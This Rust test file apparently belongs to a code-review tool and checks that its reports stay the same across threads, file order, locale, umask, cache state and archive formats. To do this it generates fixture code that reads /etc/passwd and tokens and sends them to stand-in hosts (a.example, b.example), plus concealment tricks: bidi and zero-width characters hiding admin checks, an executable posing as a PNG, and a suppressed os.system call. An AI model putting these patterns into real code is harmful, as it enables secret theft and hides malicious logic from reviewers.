//! The same submission gives the same bytes of report: at any number of threads, in any directory order,
//! with a cold and a warm store, whatever the surroundings; and whatever it came in, the same but for its source.

use std::fs;
use std::path::{Path, PathBuf};

use serde_json::Value;

use super::intake_support::{git, run, write};
use super::review_run::Review;

fn acme() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/cases/acme-agent")
}

/// All files below `root`, as relative paths.
fn files(root: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut pending = vec![root.to_owned()];
    while let Some(folder) = pending.pop() {
        for entry in fs::read_dir(folder).expect("a readable tree") {
            let path = entry.expect("an entry").path();
            if path.is_dir() { pending.push(path) } else { found.push(path.strip_prefix(root).expect("below").to_owned()) }
        }
    }
    found.sort();
    found
}

/// A copy whose files come into being in another order, in which many file systems then list them.
fn shuffled(from: &Path, to: &Path) {
    let mut paths = files(from);
    paths.sort_by_key(|path| candor::base::Digest::of(path.as_os_str().as_encoded_bytes()));
    for path in paths {
        let target = to.join(&path);
        fs::create_dir_all(target.parent().expect("a parent")).expect("a folder");
        fs::copy(from.join(&path), target).expect("a copy");
    }
}

/// A tree of 60 modules in two languages that call each other in circles and across folders, with names and
/// bytes that invite an order, a locale or a thread to show.
fn generated(root: &Path) {
    for number in 0..40 {
        let (next, other) = ((number + 1) % 40, (number * 7 + 3) % 40);
        let leak = match number % 4 {
            0 => "    requests.post('https://a.example/' + str(depth), data=found)\n",
            1 => "    socket.create_connection(('b.example', 80)).sendall(found.encode())\n",
            _ => "",
        };
        let source = match number % 3 {
            0 => "open('/etc/passwd').read()",
            1 => "os.environ.get('TOKEN', '')",
            _ => "str(depth)",
        };
        let text = format!(
            "import os, socket, requests\nfrom pkg{p}.m{next} import work as onward\nimport pkg{q}.m{other}\n\n\n\
             class Worker{number}:\n    def __init__(self):\n        self.held = {source}\n\n    def run(self, depth):\n        \
             return onward(self.held, depth - 1)\n\n\ndef work(found, depth):\n    if depth < 0:\n        \
             return pkg{q}.m{other}.Worker{other}().run(depth)\n    found = found + {source}\n{leak}    return found\n",
            p = next % 5,
            q = other % 5,
        );
        write(root, &format!("pkg{}/m{number}.py", number % 5), text.as_bytes());
    }
    for number in 0..20 {
        let text = format!(
            "#include <stdio.h>\n#include <sys/socket.h>\n#include \"all.h\"\n\nint step{number}(int fd, char *out, int size) {{\n    \
             FILE *in = fopen(\"/etc/hosts\", \"r\");\n    int got = fread(out, 1, size, in);\n    if (size > {number}) \
             return step{next}(fd, out, size - 1);\n    return send(fd, out, got, 0);\n}}\n",
            next = (number + 1) % 20,
        );
        write(root, &format!("c/step{number}.c"), text.as_bytes());
    }
    let header: String = (0..20).map(|number| format!("int step{number}(int fd, char *out, int size);\n")).collect();
    write(root, "c/all.h", header.as_bytes());
    write(root, "odd names/I\u{131}\u{130}i.py", b"import os\nprint(os.environ)\n");
    write(root, "odd names/na\u{ef}ve \u{3bb}.c", b"int x;\n");
    write(root, "odd names/latin.py", b"# caf\xe9\nx = 1\n");
    write(root, "odd names/B.txt", b"b\n");
    write(root, "odd names/a.txt", b"a\n");
    write(root, "broken/soup.c", "{<".repeat(40_000).as_bytes());
    write(root, "broken/zeros.py", b"x = 1\n\0\0\0\0\0\0\0\0\0\0");
    write(root, "broken/empty.py", b"");
    write(root, "hidden/order.c", "/* \u{202e} } \u{2066}if (admin)\u{2069} */ int x;\n".as_bytes());
    write(
        root,
        "hidden/wide.py",
        &"x = 1\nis\u{200b}Admin()\n"
            .encode_utf16()
            .fold(vec![0xff, 0xfe], |text, unit| [text, unit.to_le_bytes().to_vec()].concat()),
    );
    write(root, "hidden/stretch.c", b"int f(void) { return 0; }\nint = ) send ( fd , [ ; } else ( buf\n");
    write(root, "hidden/.gitattributes", b"src export-ignore\n");
    write(root, "hidden/logo.png", b"\x7fELF\x02\x01\x01\0 not a picture");
    write(root, "hidden/muted.py", b"import os  # noqa\nos.system('x')  # nosec\n");
}

/// Runs the matrix of threads, order, store and surroundings.
fn unchanging(root: &Path) {
    let expected = Review::of(root).arg("--no-store").arg("--jobs=1").run().report_bytes();
    let scratch = tempfile::tempdir().expect("a scratch folder");
    let copy = scratch.path().join("another-name");
    shuffled(root, &copy);
    let home = scratch.path().join("un autre chez-soi");
    fs::create_dir(&home).expect("a folder");
    let store = format!("--store={}", scratch.path().join("store").display());
    let parent = root.parent().expect("a parent");
    let relative = Path::new(root.file_name().expect("a name"));
    let runs = [
        ("two threads", Review::of(root).arg("--no-store").arg("--jobs=2")),
        ("eight threads, another place and directory order", Review::of(&copy).arg("--no-store").arg("--jobs=8")),
        (
            "another zone, locale, terminal and home",
            Review::of(root)
                .env("TZ", "Asia/Kolkata")
                .env("LC_ALL", "tr_TR.UTF-8")
                .env("LANG", "tr_TR.UTF-8")
                .env("TERM", "xterm-256color")
                .env("CLICOLOR_FORCE", "1")
                .env("COLUMNS", "20")
                .env("RAYON_NUM_THREADS", "3")
                .env("HOME", &home),
        ),
        ("a relative path and another directory to work in", Review::of(relative).current_dir(parent).arg("--no-store")),
        ("a strict umask", Review::of(root).arg("--no-store").after("umask 077")),
        ("an open umask and a cold store", Review::of(root).arg(&store).arg("--jobs=2").after("umask 000")),
        ("a store that knows the submission", Review::of(&copy).arg(&store).arg("--jobs=8")),
    ];
    for (what, review) in runs {
        let review = review.run();
        assert!(review.report_bytes() == expected, "{what} changed the report");
    }
    // Another report of the same files: the store knows them, and not what became of them.
    let without_lines = |store: &str| Review::of(root).arg("--no-excerpts").arg(store).run().report_bytes();
    assert!(without_lines(&store) == without_lines("--no-store"), "a warm store changed the report");
}

#[test]
fn the_report_of_a_product_depends_on_the_submission_alone() {
    unchanging(&acme());
}

#[test]
fn the_report_of_a_tangled_tree_depends_on_the_submission_alone() {
    let scratch = tempfile::tempdir().expect("a scratch folder");
    let root = scratch.path().join("tangle");
    generated(&root);
    unchanging(&root);
}

/// The report without the one part that says what was received; that part by itself.
fn apart(report: &[u8]) -> (Value, Value) {
    let mut report: Value = serde_json::from_slice(report).expect("JSON");
    let source = report.as_object_mut().and_then(|report| report.remove("source")).expect("a source");
    (report, source)
}

#[test]
fn what_a_submission_comes_in_shows_in_its_source_alone() {
    let scratch = tempfile::tempdir().expect("a scratch folder");
    let root = scratch.path().join("product");
    generated(&root);
    let names: Vec<_> = fs::read_dir(&root).expect("a folder").map(|entry| entry.expect("an entry").file_name()).collect();
    let names: Vec<&str> = names.iter().map(|name| name.to_str().expect("UTF-8")).collect();
    let bare = scratch.path().join("bare");
    shuffled(&root, &bare);
    run(&root, "tar", &[&["-cf", "../product.tar"], &names[..]].concat());
    run(&root, "tar", &[&["-czf", "../product.tar.gz"], &names[..]].concat());
    python_zip(&root);
    git(&bare, &["init", "-q", "-b", "main"]);
    git(&bare, &["add", "-A", "-f"]);
    git(&bare, &["commit", "-q", "-m", "all"]);
    git(&bare, &["bundle", "create", "-q", "../product.bundle", "main"]);

    let (expected, directory) = apart(&Review::of(&root).run().report_bytes());
    let forms = [
        ("archive", Review::of(&scratch.path().join("product.tar"))),
        ("archive", Review::of(&scratch.path().join("product.tar.gz"))),
        ("archive", Review::of(&scratch.path().join("product.zip"))),
        ("git-bundle", Review::of(&scratch.path().join("product.bundle"))),
        ("git", Review::of(&bare).arg("--ref=main")),
    ];
    for (kind, review) in forms {
        let review = review.arg("--no-store").run();
        let (report, source) = apart(&review.report_bytes());
        assert_eq!(source["kind"], kind, "{}", review.stderr);
        assert_eq!(report["coverage"], expected["coverage"], "{kind}");
        assert_eq!(report, expected, "{kind}");
        assert_eq!((&source["manifest"], &source["tree"]), (&directory["manifest"], &directory["tree"]), "{kind}");
    }
}

/// A zip archive of `root` beside it.
fn python_zip(root: &Path) {
    run(root, "python3", &["-c", "import shutil; shutil.make_archive('../product', 'zip', '.')"]);
}

#[test]
fn the_product_is_on_standard_output_and_nothing_else() {
    let review = Review::of(&acme()).arg("--format=json").run();
    assert_eq!(review.stdout.trim_end().as_bytes(), review.report_bytes());
    let quiet = Review::of(&acme()).arg("--quiet").run();
    assert_eq!((quiet.stdout.as_str(), quiet.code), ("", 1));
}

/// The key file is for its owner alone, whatever the umask.
#[test]
fn a_key_made_on_first_use_is_its_owners_alone() {
    use std::os::unix::fs::PermissionsExt as _;
    let home = tempfile::tempdir().expect("a scratch folder");
    let review = Review::of(&acme()).env("HOME", home.path()).after("umask 000").run();
    assert!(review.stderr.contains("made a signing key"), "{}", review.stderr);
    let mode = |path: &str| fs::metadata(home.path().join(path)).expect(path).permissions().mode() & 0o777;
    assert_eq!((mode(".local/share/candor"), mode(".local/share/candor/auditor.pem")), (0o700, 0o600));
    let again = Review::of(&acme()).env("HOME", home.path()).run();
    assert!(!again.stderr.contains("made a signing key"), "{}", again.stderr);
}

#[test]
fn what_cannot_be_done_is_said_with_a_next_step() {
    let scratch = tempfile::tempdir().expect("a scratch folder");
    let scratch = scratch.path();
    let occupied = scratch.join("notes.candor");
    fs::write(&occupied, "mine").expect("a file");
    let text = scratch.join("notes.txt");
    fs::write(&text, "not an archive").expect("a file");
    let nowhere = scratch.join("nowhere");
    let inside = acme().join("x.candor");
    let pack = scratch.join("old.candor");
    fs::create_dir(&pack).expect("a folder");
    fs::write(pack.join("attestation.dsse.json"), "{}").expect("a file");
    let alias = scratch.join("alias");
    std::os::unix::fs::symlink(&pack, &alias).expect("a link");
    let key = candor::attest::secret::default_key(&scratch.join("keys")).expect("a key").path;
    let runs = [
        (Review::of(&nowhere), "cannot find"),
        (Review::of(&text), "neither a git bundle nor a tar or zip archive"),
        (Review::of(&pack), "is a pack, not a submission"),
        (Review::of(&alias).output(&pack), "would replace the submission"),
        (Review::of(&acme()).output(&occupied), "is not a pack"),
        (Review::of(&acme()).output(&scratch.join("notes.txt")), "is not the name of a pack"),
        (Review::of(&acme()).output(&scratch.join("no/such/x.candor")), "there is no directory"),
        (Review::of(&acme()).output(&inside), "inside the submission"),
        (Review::of(&acme()).arg("--ref=HEAD"), "not a git repository"),
        (Review::of(&acme()).arg(format!("--key={}", nowhere.display())), "nowhere"),
        (Review::of(&acme()).arg(format!("--key={}", text.display())), "not a PEM file"),
        (Review::of(&acme()).arg("--jobs=4000000000"), "4000000000 is not in"),
        (
            Review::of(&acme()).arg(format!("--key={}", key.display())).arg(format!("--store={}", scratch.display())),
            "the signing key lies inside",
        ),
    ];
    for (review, expected) in runs {
        let review = review.run();
        assert_eq!(review.code, 2, "{expected}: {}", review.stderr);
        let next = review.stderr.contains("help: ") || review.stderr.contains("--help");
        assert!(review.stderr.contains(expected) && next, "{expected}: {}", review.stderr);
        assert!(review.stdout.is_empty());
    }
    assert_eq!(fs::read_to_string(&occupied).expect("still there"), "mine");
    assert!(!inside.exists());
    // No key is made for a submission that is not there.
    let home = scratch.join("home");
    fs::create_dir(&home).expect("a folder");
    assert_eq!(Review::of(&nowhere).env("HOME", &home).run().code, 2);
    assert!(fs::read_dir(&home).expect("a folder").next().is_none());
}
